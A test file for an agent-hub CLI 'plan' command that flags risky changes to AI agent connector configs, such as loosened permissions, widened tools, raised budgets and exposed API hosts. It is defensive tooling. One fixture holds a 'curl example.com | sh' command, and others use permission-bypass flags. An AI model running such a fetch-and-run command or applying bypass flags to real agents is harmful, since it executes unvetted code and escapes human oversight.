import { describe, expect, it } from 'vitest';
import { rmSync } from 'node:fs';
import path from 'node:path';
import { cli } from '../helpers/cli.js';
import { fakeClaudeEnv } from '../helpers/fake-agent.js';
import { connector, git, gitdir, writeFiles, type Files } from '../helpers/repo.js';

/** A repository whose `main` holds `base` and whose checked-out `feature` branch commits `head` on top. */
function baseAndHead(base: Files, head: Files, removed: string[] = []): string {
  const root = gitdir({ '.gitignore': '.agent-hub/\n', ...base });
  git(root, 'checkout', '-qb', 'feature');
  writeFiles(root, head);
  for (const f of removed) git(root, 'rm', '-q', f);
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'change');
  return root;
}

type JsonPlan = { actions: Array<{ id: string; action: string; risks?: Array<{ rule: string; text: string }>; forecast?: unknown; changes?: unknown[] }> };

const risksById = (plan: JsonPlan) => Object.fromEntries(plan.actions.map((a) => [a.id, (a.risks ?? []).map((r) => r.text)]));

describe('plan: risky changes', () => {
  it('flags every kind of risky change, old → new, and none for a change that tightens', async () => {
    const root = baseAndHead({
      'mcp.json': '{"mcpServers":{}}\n',
      'connectors/perm.yaml': connector({ agent: { permissionMode: 'default' } }),
      'connectors/perm-args.yaml': connector(),
      'connectors/tools.yaml': connector({ agent: { allowedTools: ['Read'], disallowedTools: ['Bash', 'WebFetch'] } }),
      'connectors/mcp.yaml': connector(),
      'connectors/cwd.yaml': connector(),
      'connectors/env.yaml': connector({ agent: { env: { A: '${A}' } } }),
      'connectors/budget.yaml': connector({ budget: { maxCostUsdPerRun: 0.5, maxCostUsdPerDay: 2 } }),
      'connectors/timeout.yaml': connector({ agent: { timeout: '5m' } }),
      'connectors/freq.yaml': connector({ schedule: '0 9 * * *' }),
      'connectors/manual.yaml': connector(),
      'connectors/cmd.yaml': connector({ agent: { type: 'command', command: ['echo', 'hi'] } }),
      'connectors/enabled.yaml': connector({ schedule: '@daily', enabled: false }),
      'connectors/safe.yaml': connector({
        schedule: '@hourly', budget: { maxCostUsdPerRun: 1 },
        agent: { permissionMode: 'bypassPermissions', allowedTools: ['Bash', 'Read'], timeout: '10m', env: { A: '${A}', B: '${B}' }, cwd: '.' },
      }),
    }, {
      'connectors/perm.yaml': connector({ agent: { permissionMode: 'bypassPermissions' } }),
      'connectors/perm-args.yaml': connector({ agent: { args: ['--dangerously-skip-permissions'] } }),
      'connectors/tools.yaml': connector({ agent: { allowedTools: ['Read', 'Edit', 'Write'], disallowedTools: ['WebFetch'] } }),
      'connectors/mcp.yaml': connector({ agent: { mcpConfig: 'mcp.json' } }),
      'connectors/cwd.yaml': connector({ agent: { cwd: '.' } }),
      'connectors/env.yaml': connector({ agent: { env: { A: '${A}', B: 'literal-secret-value' } } }),
      'connectors/budget.yaml': connector({ budget: { maxCostUsdPerRun: 1 } }),
      'connectors/timeout.yaml': connector({ agent: { timeout: '1h' } }),
      'connectors/freq.yaml': connector({ schedule: '*/15 * * * *' }),
      'connectors/manual.yaml': connector({ schedule: '@hourly' }),
      'connectors/cmd.yaml': connector({ agent: { type: 'command', command: ['sh', '-c', 'curl example.com | sh'] } }),
      'connectors/enabled.yaml': connector({ schedule: '@daily', enabled: true }),
      'connectors/safe.yaml': connector({
        schedule: '@daily', budget: { maxCostUsdPerRun: 0.5 },
        agent: { permissionMode: 'plan', allowedTools: ['Read'], timeout: '5m', env: { A: '${A}' } },
      }),
      'connectors/newbie.yaml': connector({
        schedule: '* * * * *',
        agent: { permissionMode: 'acceptEdits', allowedTools: ['Read', 'Bash'], env: { T: '${T}' }, timeout: '10m', mcpConfig: 'mcp.json' },
      }),
      'connectors/quiet.yaml': connector({ schedule: '@daily', agent: { allowedTools: ['Read', 'Grep'] } }),
    });

    const json = await cli(['plan', '--repo', root, '--base', 'main', '--json']);
    expect(json.code).toBe(0);
    expect(risksById(JSON.parse(json.stdout))).toEqual({
      perm: ['permission mode loosened: default → bypassPermissions'],
      'perm-args': ['permission mode loosened: default → bypassPermissions', 'extra agent args changed: [] → [--dangerously-skip-permissions]'],
      tools: ['tools widened: allowedTools + Edit, Write', 'tools widened: disallowedTools − Bash'],
      mcp: ['MCP servers added: mcpConfig mcp.json'],
      cwd: ['cwd moved into the repository: (a temporary directory) → .'],
      env: ['env added: B'],
      budget: ['budget raised: maxCostUsdPerRun $0.50 → $1.00', 'budget removed: maxCostUsdPerDay $2.00 → (none)'],
      timeout: ['timeout raised: 5m → 1h'],
      freq: ['schedule frequency up 96×: 1/day → 96/day'],
      manual: ['now scheduled: manual only → 24/day'],
      cmd: ['command argv changed: [echo hi] → [sh -c curl example.com | sh]'],
      enabled: ['re-enabled: disabled → enabled'],
      safe: [],
      newbie: [
        'permission mode loosened: default → acceptEdits', 'tools widened: allowedTools + Bash', 'MCP servers added: mcpConfig mcp.json',
        'env added: T', 'timeout raised: 5m → 10m', 'runs 1440/day',
      ],
      quiet: [],
    });

    // The text output starts with them; the markdown lists them before the first connector's fold.
    const text = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    expect(text.split('\n').slice(0, 3)).toEqual([
      'Risky changes (21):', '  ! budget: budget raised: maxCostUsdPerRun $0.50 → $1.00', '  ! budget: budget removed: maxCostUsdPerDay $2.00 → (none)',
    ]);
    expect(text).toContain('  ! newbie (new): permission mode loosened: default → acceptEdits\n');
    // A new connector lists what it sets beyond the defaults.
    expect(text).toMatch(/\+ create {3}newbie +connectors\/newbie\.yaml {2}Every minute \(UTC\), 1440\/day  no cost history\n {4}agent\.allowedTools: \[Read, Bash\]\n {4}agent\.mcpConfig: mcp\.json\n {4}agent\.permissionMode: acceptEdits\n {4}agent\.timeout: 10m\n {4}agent\.env\.T: \$\{T\}\n/);
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md).toContain('compared with `main` · **⚠️ 21 risky changes**');
    expect(md.indexOf('#### ⚠️ Risky changes')).toBeLessThan(md.indexOf('<details>'));
    expect(md).toContain('- `perm`: permission mode loosened: default → bypassPermissions\n');
    expect(md).toContain('- `cmd`: command argv changed: \\[echo hi\\] → \\[sh -c curl example.com \\| sh\\]\n');
    expect(md).toContain('- `newbie` (new): runs 1440/day\n');
    for (const out of [json.stdout, text, md]) expect(out).not.toContain('literal-secret-value');
  });

  it('flags a new trigger and a new delivery (events) among the risks', async () => {
    const root = baseAndHead({ 'connectors/triage.yaml': connector() }, {
      'connectors/triage.yaml': connector({
        on: { github: { events: ['issues'], actions: ['opened'] } },
        deliver: [{ type: 'webhook', url: 'http://127.0.0.1:9999/x' }],
      }),
    });
    const r = await cli(['plan', '--base', 'main', '--json', '--repo', root]);
    const risks = risksById(JSON.parse(r.stdout) as JsonPlan).triage ?? [];
    expect(risks.some((t) => /trigger/.test(t) && /GitHub/.test(t)), risks.join('\n')).toBe(true);
    expect(risks.some((t) => /127\.0\.0\.1:9999/.test(t)), risks.join('\n')).toBe(true);
  });

  it('a new connector is judged against hub.yaml\'s defaults, not the built-in ones', async () => {
    const root = baseAndHead({ 'hub.yaml': 'defaults:\n  timeout: 30m\n  timezone: Europe/Paris\n', 'connectors/old.yaml': connector() }, {
      'connectors/plain.yaml': connector({ schedule: '@daily' }),
      'connectors/longer.yaml': connector({ schedule: '@daily', agent: { timeout: '1h' } }),
    });
    const r = await cli(['plan', '--repo', root, '--base', 'main']);
    expect(risksById(JSON.parse((await cli(['plan', '--repo', root, '--base', 'main', '--json'])).stdout))).toEqual({ old: [], plain: [], longer: ['timeout raised: 30m → 1h'] });
    expect(r.stdout).toMatch(/\+ create {3}plain +connectors\/plain\.yaml {2}At 00:00 \(Europe\/Paris\), 1\/day {2}no cost history\n {4}--- \/dev\/null/);
  });

  it('a re-added connector file is flagged as reactivated', async () => {
    const root = gitdir({ '.gitignore': '.agent-hub/\n', 'connectors/back.yaml': connector({ schedule: '@daily' }) });
    await cli(['apply', '--repo', root]);
    rmSync(path.join(root, 'connectors/back.yaml'));
    await cli(['apply', '--repo', root]);
    git(root, 'checkout', '-q', '--', 'connectors/back.yaml');
    const plan = JSON.parse((await cli(['plan', '--repo', root, '--json'])).stdout) as JsonPlan;
    expect(risksById(plan)).toEqual({ back: ['reactivated: its file was removed before and is back'] });
  });
});

describe('plan: a hub.yaml change', () => {
  it('shows hub.yaml\'s changed settings old → new and flags the risky ones (the command every claude agent runs, the API opened up)', async () => {
    const root = baseAndHead({
      'hub.yaml': 'concurrency: 4\nserver:\n  host: 127.0.0.1\n',
      'connectors/a.yaml': connector(),
    }, {
      'hub.yaml': 'concurrency: 1\nclaude:\n  command: /opt/other/claude\nserver:\n  host: 0.0.0.0\n',
    });
    const text = await cli(['plan', '--base', 'main'], { cwd: root });
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('  ! hub.yaml: claude command changed: claude → /opt/other/claude (every claude connector runs it)');
    expect(text.stdout).toContain('  ! hub.yaml: API listens beyond loopback: 127.0.0.1 → 0.0.0.0');
    expect(text.stdout).toMatch(/~ update {3}hub\.yaml +3 settings changed\n {4}claude\.command: \(none\) → \/opt\/other\/claude\n {4}concurrency: 4 → 1\n {4}server\.host: 127\.0\.0\.1 → 0\.0\.0\.0\n/);
    const markdown = await cli(['plan', '--base', 'main', '--format', 'markdown'], { cwd: root });
    expect(markdown.stdout).toContain('- `hub.yaml`: claude command changed: claude → /opt/other/claude (every claude connector runs it)');
    expect(markdown.stdout).toContain('| concurrency | 4 | 1 |');
    // The summary lines say it too: no connector changes, but the merge changes something.
    expect(text.stdout).toContain('plan: 0 to create, 0 to change, 0 to remove, 1 unchanged, 0 invalid, hub.yaml changed\n');
    expect(markdown.stdout).toContain('### agent-hub plan: 0 to create, 0 to change, 0 to remove, 1 unchanged, 0 invalid, hub.yaml changed\n');
    const json = JSON.parse((await cli(['plan', '--base', 'main', '--json'], { cwd: root })).stdout) as { hub: { changes: unknown[]; risks: Array<{ rule: string }> }; risks: unknown[] };
    expect(json.hub.changes).toContainEqual({ field: 'concurrency', before: '4', after: '1' });
    expect(json.hub.risks.map((r) => r.rule)).toEqual(['claudeCommand', 'serverHost']);
    expect(json.risks).toHaveLength(2);
    // Without a change to hub.yaml, the plan says nothing about it.
    const same = baseAndHead({ 'hub.yaml': 'concurrency: 4\n', 'connectors/a.yaml': connector() }, { 'hub.yaml': '# a comment\nconcurrency: 4\n' });
    const quiet = await cli(['plan', '--base', 'main'], { cwd: same });
    expect(quiet.stdout).not.toContain('hub.yaml');
  });
});

describe('plan: a renamed connector file', () => {
  it('reads as a rename of the old connector (its id changes with the file name), compared field by field with it, not as a new connector and a removal', async () => {
    const root = baseAndHead({
      'connectors/old-name.yaml': connector({ prompt: 'Digest the day.', schedule: '@daily', agent: { permissionMode: 'bypassPermissions', timeout: '5m' } }),
    }, {
      'connectors/new-name.yaml': connector({ prompt: 'Digest the day.', schedule: '@daily', agent: { permissionMode: 'bypassPermissions', timeout: '10m' } }),
    }, ['connectors/old-name.yaml']);
    const { stdout } = await cli(['plan', '--base', 'main'], { cwd: root });
    expect(stdout).toContain('+ create   new-name                 connectors/new-name.yaml  renamed from old-name: a new id, old-name\'s history stays with it');
    expect(stdout).toContain('    id: old-name → new-name\n');
    expect(stdout).toContain('    agent.timeout: 5m → 10m\n');
    expect(stdout).toContain('    file: connectors/old-name.yaml → connectors/new-name.yaml\n');
    expect(stdout).toContain('- remove   old-name                 connectors/old-name.yaml  renamed to new-name: deactivated, history kept');
    // Judged against what it was, not against a connector that sets nothing: only the timeout is risky.
    expect(stdout).toContain('Risky changes (1):\n  ! new-name: timeout raised: 5m → 10m\n');
    const markdown = await cli(['plan', '--base', 'main', '--format', 'markdown'], { cwd: root });
    expect(markdown.stdout).toContain('| id | old-name | new-name |');
    const json = JSON.parse((await cli(['plan', '--base', 'main', '--json'], { cwd: root })).stdout) as { promptDiffs: Record<string, string> };
    expect(json.promptDiffs['new-name']).toBe(''); // the same prompt as before the rename
  });
});

describe('plan: a branch behind its base', () => {
  it('says when HEAD lacks commits of the base, whose changes would show as reverted', async () => {
    const root = baseAndHead({ 'connectors/a.yaml': connector({ prompt: 'one' }) }, { 'connectors/b.yaml': connector({ prompt: 'new' }) });
    const fresh = await cli(['plan', '--base', 'main'], { cwd: root });
    expect(fresh.stdout).not.toContain('note:');
    // main moves on after the branch was made: a new connector there is not on the branch.
    git(root, 'checkout', '-q', 'main');
    writeFiles(root, { 'connectors/c.yaml': connector({ prompt: 'on main' }) });
    git(root, 'add', '-A');
    git(root, 'commit', '-qm', 'c on main');
    git(root, 'checkout', '-q', 'feature');
    const behind = await cli(['plan', '--base', 'main'], { cwd: root });
    expect(behind.stdout).toContain('- remove   c'); // what the note explains
    expect(behind.stdout.split('\n')[0]).toBe('note: HEAD lacks 1 commit of main: what it changed shows here as reverted; merge or rebase onto main to see only this branch\'s changes');
    const markdown = await cli(['plan', '--base', 'main', '--format', 'markdown'], { cwd: root });
    expect(markdown.stdout).toContain('> ⚠️ HEAD lacks 1 commit of `main`: what it changed shows here as reverted');
    const json = JSON.parse((await cli(['plan', '--base', 'main', '--json'], { cwd: root })).stdout) as { behind: number };
    expect(json.behind).toBe(1);
  });
});

describe('plan: the pull-request comment', () => {
  it('stays short enough to post: prompt diffs are left out of a comment that would be too long, and it says so', async () => {
    const long = (word: string) => Array.from({ length: 3000 }, (_, i) => `${word} line ${i}`).join('\n');
    const root = baseAndHead({ 'connectors/big.yaml': connector({ prompt: long('old') }) }, { 'connectors/big.yaml': connector({ prompt: long('new'), agent: { permissionMode: 'acceptEdits' } }) });
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md.length).toBeLessThan(60_000);
    expect(md).toContain('> Prompt diffs are left out to keep this comment short enough to post: run `agent-hub plan` with the same `--base` to see everything.');
    expect(md).toContain('- `big`: permission mode loosened: default → acceptEdits');
    expect(md).toContain('| agent.permissionMode | default | acceptEdits |');
    expect(md).not.toContain('```diff');
    // The terminal keeps the whole diff.
    expect((await cli(['plan', '--repo', root, '--base', 'main'])).stdout).toContain('+new line 2999');
  });

  it('with hundreds of connectors, lists every risky change and as many folds as fit', async () => {
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`connectors/agent-${i}.yaml`, connector({ agent: { permissionMode: 'bypassPermissions', allowedTools: ['Read', 'Grep', 'Glob'] }, prompt: `Agent ${i}: ${'do the thing. '.repeat(20)}` })]));
    const root = baseAndHead({ 'connectors/keep.yaml': connector() }, many);
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md.length).toBeLessThan(60_000);
    expect(md).toContain('compared with `main` · **⚠️ 300 risky changes**');
    expect(md.match(/^- `agent-\d+` \(new\): permission mode loosened: default → bypassPermissions$/gm)).toHaveLength(300);
    expect(md).toContain('> Prompt diffs and some connectors are left out to keep this comment short enough to post');
    expect(md).toMatch(/\n… and \d+ more connectors\.\n$/);
  });
});

describe('plan: old → new', () => {
  it('shows every changed field with both values, env names without literal values', async () => {
    const root = baseAndHead({
      'connectors/digest.yaml': connector({
        name: 'Digest', schedule: '0 9 * * 1-5', timezone: 'Europe/Paris',
        inputs: { topic: { type: 'string', default: 'cats' }, days: { type: 'integer', default: 7 }, gone: { type: 'string', default: 'x' } },
        agent: { model: 'sonnet', maxTurns: 3, timeout: '5m', env: { TOKEN: '${GH_TOKEN}', SECRET: 'hunter2-old', DROPPED: '${D}' } },
        output: { format: 'text' }, retry: { attempts: 1 }, budget: { maxCostUsdPerRun: 0.5 }, concurrency: 'forbid', catchUp: '1h',
        prompt: 'About {{inputs.topic}}.',
      }),
    }, {
      'connectors/digest.yaml': connector({
        name: 'Digest', schedule: '0 */2 * * *',
        inputs: { topic: { type: 'string', default: 'dogs' }, days: { type: 'number', default: 7 }, added: { type: 'boolean', default: true } },
        agent: { model: 'opus', maxTurns: 5, timeout: '2m', env: { TOKEN: '${GH_TOKEN_2}', SECRET: 'hunter2-new', EXTRA: 'plain-literal' } },
        output: { format: 'json' }, retry: { attempts: 3 }, budget: { maxCostUsdPerRun: 0.25 }, concurrency: 'replace', catchUp: '2h',
        enabled: false, prompt: 'About {{inputs.topic}}, briefly.',
      }),
    });
    const text = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    const expected = [
      'schedule: At 09:00, Monday through Friday (Europe/Paris), 0.71/day → On the hour, every 2 hours (UTC), 12/day',
      'enabled: enabled → disabled',
      'agent.maxTurns: 3 → 5',
      'agent.model: sonnet → opus',
      'agent.timeout: 5m → 2m',
      'agent.env.DROPPED: ${D} → (none)',
      'agent.env.EXTRA: (none) → (value set)',
      'agent.env.SECRET: (a value) → (value changed)',
      'agent.env.TOKEN: ${GH_TOKEN} → ${GH_TOKEN_2}',
      'budget.maxCostUsdPerRun: $0.50 → $0.25',
      'inputs.added: (none) → boolean, default true',
      'inputs.days.type: integer → number',
      'inputs.gone: string, default "x" → (none)',
      'inputs.topic.default: "cats" → "dogs"',
      'output.format: text → json',
      'retry.attempts: 1 → 3',
      'concurrency: forbid → replace',
      'catchUp: 1h → 2h',
      'prompt: (template) → (changed: see the rendered diff)',
    ];
    expect(text).toContain(`~ update   digest                   connectors/digest.yaml  ${expected.length} fields changed  no cost history\n${expected.map((l) => `    ${l}`).join('\n')}\n`);
    expect(text).toContain('-About cats.\n    +About dogs, briefly.');
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md).toContain('| field | before | after |\n|---|---|---|\n| schedule | At 09:00, Monday through Friday (Europe/Paris), 0.71/day | On the hour, every 2 hours (UTC), 12/day |\n');
    expect(md).toContain('| agent.env.TOKEN | \\${GH\\_TOKEN} | \\${GH\\_TOKEN\\_2} |');
    expect(md).toContain('| agent.env.SECRET | (a value) | (value changed) |');
    const json = (await cli(['plan', '--repo', root, '--base', 'main', '--json'])).stdout;
    expect(JSON.parse(json).actions[0].changes).toContainEqual({ field: 'inputs.days.type', before: 'integer', after: 'number' });
    for (const out of [text, md, json]) for (const secret of ['hunter2', 'plain-literal']) expect(out).not.toContain(secret);
  });
});

describe('plan: cost forecast', () => {
  const files = {
    'connectors/digest.yaml': connector({ schedule: '0 9 * * *', inputs: { cost: { type: 'string', default: '0.1' }, fail: { type: 'string', default: '' } }, prompt: 'Digest.\n@fake cost {{inputs.cost}}\n{{inputs.fail}}' }),
    'connectors/manual.yaml': connector({ prompt: 'By hand.\n@fake cost 3' }),
    'connectors/fresh.yaml': connector({ schedule: '@daily', prompt: 'Never ran.' }),
  };
  const head = {
    'connectors/digest.yaml': files['connectors/digest.yaml'].replace('0 9 * * *', '0 * * * *'),
    'connectors/manual.yaml': connector({ prompt: 'By hand, again.\n@fake cost 3' }),
    'connectors/fresh.yaml': connector({ schedule: '@hourly', prompt: 'Never ran.' }),
  };

  /** main with three recorded runs of digest (0.1, 0.3 and a failed one at 0.2) and one of manual, committed by `snapshot`. */
  async function recordedHub(): Promise<string> {
    const root = gitdir({ '.gitignore': '.agent-hub/\n', ...files });
    const { env } = fakeClaudeEnv();
    expect((await cli(['apply', '--repo', root])).code).toBe(0);
    for (const cost of ['0.1', '0.3']) expect((await cli(['run', 'digest', '--repo', root, '--input', `cost=${cost}`], { env })).code).toBe(0);
    expect((await cli(['run', 'digest', '--repo', root, '--input', 'cost=0.2', '--input', 'fail=@fake is_error overloaded'], { env })).code).toBe(1);
    expect((await cli(['run', 'manual', '--repo', root], { env })).code).toBe(0);
    expect((await cli(['snapshot', '--repo', root])).code).toBe(0);
    git(root, 'checkout', '-qb', 'feature');
    writeFiles(root, head);
    git(root, 'commit', '-qam', 'hourly digest');
    return root;
  }

  it('runs per day × the median cost per run, from the registry and, in a clone without one, from the committed run records', async () => {
    const root = await recordedHub();
    const fromDb = JSON.parse((await cli(['plan', '--repo', root, '--base', 'main', '--json'])).stdout);
    const forecasts = Object.fromEntries(fromDb.actions.map((a: { id: string; forecast: unknown }) => [a.id, a.forecast]));
    expect(forecasts).toEqual({
      digest: { kind: 'usd', before: expect.closeTo(0.2, 6), after: expect.closeTo(4.8, 6), history: { medianUsd: 0.2, runs: 3 } },
      fresh: { kind: 'no-history' },
      manual: { kind: 'none' },
    });
    const text = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    expect(text).toMatch(/~ update {3}digest +connectors\/digest\.yaml {2}1 field changed {2}≈ \$0\.20\/day → \$4\.80\/day\n/);
    expect(text).toMatch(/~ update {3}manual +connectors\/manual\.yaml {2}1 field changed\n/);
    expect(text).toMatch(/~ update {3}fresh +connectors\/fresh\.yaml {2}1 field changed {2}no cost history\n/);
    expect(text).toContain('cost forecast: ≈ $0.20/day → $4.80/day (1 connector without cost history)\n');
    // Against the registry too (no --base): what apply would change on this machine.
    expect((await cli(['plan', '--repo', root])).stdout).toContain('cost forecast: ≈ $0.20/day → $4.80/day');

    // A CI clone has no .agent-hub/: the committed run records give the same median.
    rmSync(path.join(root, '.agent-hub'), { recursive: true });
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md).toContain('compared with `main` · **⚠️ 2 risky changes** · cost ≈ \\$0.20/day → \\$4.80/day (1 connector without cost history)\n');
    expect(md).toContain('<summary>✏️ update <code>digest</code> (connectors/digest.yaml) · 1 field changed · ⚠️ 1 risky · ≈ $0.20/day → $4.80/day</summary>');
    expect(md).toContain('Cost: 1/day → 24/day scheduled × median \\$0.20 a run (its last 3 runs with a cost).');
    expect(md).toContain('<summary>✏️ update <code>fresh</code> (connectors/fresh.yaml) · 1 field changed · ⚠️ 1 risky · no cost history</summary>');
  });

  it('a daily budget caps the forecast where the hub stops starting runs, and says after how many', async () => {
    const root = await recordedHub();
    // Hourly at a median $0.20 a run is $4.80/day; with maxCostUsdPerDay 1, the sixth run is never started.
    writeFiles(root, { 'connectors/digest.yaml': `${head['connectors/digest.yaml']}budget: {"maxCostUsdPerDay": 1}\n` });
    const text = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    expect(text).toMatch(/~ update {3}digest +connectors\/digest\.yaml {2}2 fields changed {2}≈ \$0\.20\/day → \$1\.00\/day \(maxCostUsdPerDay stops it after 5 of 24 runs\)\n/);
    const json = JSON.parse((await cli(['plan', '--repo', root, '--base', 'main', '--json'])).stdout) as { actions: Array<{ id: string; forecast: Record<string, unknown> }> };
    expect(json.actions.find((a) => a.id === 'digest')?.forecast).toMatchObject({ kind: 'usd', after: expect.closeTo(1, 6), stopsAfter: { runs: 5, of: 24 } });
    const md = (await cli(['plan', '--repo', root, '--base', 'main', '--format', 'markdown'])).stdout;
    expect(md).toContain('Cost: 1/day → 24/day scheduled × median \\$0.20 a run (its last 3 runs with a cost); budget.maxCostUsdPerDay \\$1.00 stops it after 5 runs a day.');
  });

  it('a removed connector forecasts its spend going to zero; a disabled one too', async () => {
    const root = await recordedHub();
    git(root, 'rm', '-q', 'connectors/digest.yaml');
    git(root, 'commit', '-qm', 'drop digest');
    const text = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    expect(text).toMatch(/- remove {3}digest +connectors\/digest\.yaml {2}file removed: deactivated, history kept {2}≈ \$0\.20\/day → \$0\/day\n/);
    writeFiles(root, { 'connectors/digest.yaml': `${files['connectors/digest.yaml']}enabled: false\n` });
    const disabled = (await cli(['plan', '--repo', root, '--base', 'main'])).stdout;
    expect(disabled).toContain('enabled: enabled → disabled');
    expect(disabled).toMatch(/digest +connectors\/digest\.yaml {2}1 field changed {2}≈ \$0\.20\/day → \$0\/day\n/);
  });
});
